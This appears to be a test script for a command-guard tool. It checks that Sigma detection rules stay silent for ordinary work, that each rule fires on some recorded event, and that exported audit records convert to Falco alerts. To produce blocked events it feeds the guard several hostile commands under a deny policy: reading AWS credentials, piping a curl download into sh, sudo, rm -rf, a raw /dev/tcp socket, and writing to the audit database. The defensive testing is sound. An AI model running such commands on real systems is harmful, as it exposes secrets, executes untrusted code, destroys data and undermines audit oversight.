# SPDX-License-Identifier: Apache-2.0
# timeout: 180
# Each rule of packaging/sigma holds for a record that guard makes of what it is about, none for ordinary work, and each
# field that it names is in every record; packaging/falco makes an alert in Falco's JSON of each record.
. "$LIB/case.sh"
. "$LIB/sinks.sh"
/usr/bin/python3 -c 'import yaml' 2>/dev/null || skip "no python3-yaml here"
matched() { /usr/bin/python3 -B "$LIB/sigma.py" "$1" "$PACKAGING"/sigma/*.yml >"$OUT" 2>"$ERR" || fail "$(cat "$ERR")"; }

guard_run -- bash -c 'echo x >new; cat new; rm new'
assert_status 0
wait_for_closing
guard audit export >"$CASE_ROOM/ordinary"
matched "$CASE_ROOM/ordinary"
[[ $(wc -l <"$OUT") -eq 10 ]] || fail "not ten rules"
[[ $(grep -vc ' 0$' "$OUT" || true) -eq 0 ]] || fail "a rule holds for ordinary work: $(cat "$OUT")"

mkdir -p ~/.aws
printf '[default]\naws_secret_access_key = precious\n' >~/.aws/credentials
precious old/{1,2,3,4}
stand_in sudo
refused() { guard_run --on-ask deny -- bash -c "$1"; }
refused "echo x >>$GUARD_STATE_DIR/audit.db"
refused 'cat ~/.aws/credentials'
refused 'curl -s http://127.0.0.1:9/install | sh'
refused 'sudo true'
refused 'rm -rf old/*'
refused 'exec 3<>/dev/tcp/192.0.2.7/80'
printf 'version: 1\nextends: [default]\nrules:\n  - {id: mine, when: {act: read, path: "~/.aws/credentials"}, decision: allow}\n' >"$CASE_ROOM/mine.yaml"
guard_run --policy "$CASE_ROOM/mine.yaml" -- cat ~/.aws/credentials
assert_status 0
# A session that is killed closes nothing; the next one of its name begins anew.
start_guarded --session killed -- sleep 60
is_there() { is_recorded "r['session_id'] == 'killed'"; }
until_true 10 is_there || fail "no record of it"
for pid in $(serving_process "$guard_pid"); do kill -KILL "$pid"; done
wait "$guard_pid" 2>/dev/null || true
guard_run --session killed -- true
sinks_policy "{name: gone, type: syslog, host: 127.0.0.1, port: 9, transport: tcp}"
guard_run -- bash -c 'sleep 2'
wait_for_closing
guard audit export >"$CASE_ROOM/records"
matched "$CASE_ROOM/records"
[[ $(grep -c ' 0$' "$OUT" || true) -eq 0 ]] || fail "a rule holds for nothing: $(cat "$OUT")"

command -v jq >/dev/null || { printf 'note: no jq here: Falco is not tried\n' && exit 0; }
jq -c -f "$PACKAGING/falco/guard_to_falco.jq" "$CASE_ROOM/records" >"$CASE_ROOM/falco"
python3 -B - "$CASE_ROOM/records" "$CASE_ROOM/falco" <<'PYTHON' || fail "not Falco's: $(head -1 "$CASE_ROOM/falco")"
import json, sys
records, alerts = ([json.loads(line) for line in open(name, encoding="utf-8")] for name in sys.argv[1:])
assert len(records) == len(alerts)
for record, alert in zip(records, alerts):
    assert set(alert) == {"uuid", "time", "priority", "rule", "output", "source", "hostname", "tags", "output_fields"}, alert
    assert alert["priority"] in ("Critical", "Warning", "Notice", "Informational") and alert["source"] == "guard", alert
    assert alert["uuid"] == record["request_id"] and alert["output_fields"]["guard.hash"] == record["hash"], alert
    assert not any(isinstance(value, (list, dict)) for value in alert["output_fields"].values()), alert
    assert (record["decision"] == "block") == (alert["priority"] == "Critical"), alert
PYTHON
